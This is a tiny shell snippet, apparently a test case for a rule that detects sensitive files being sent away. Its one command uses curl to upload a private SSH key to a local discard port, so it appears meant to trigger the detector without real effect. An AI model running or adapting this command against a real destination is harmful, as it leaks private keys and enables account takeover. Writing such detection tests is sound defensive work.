# what: a key is sent to another machine
# rules: Sensitive file sent away
# needs: curl
curl -s -m 1 -F f=@/home/ann/.ssh/id_ed25519 http://127.0.0.1:9/ || true
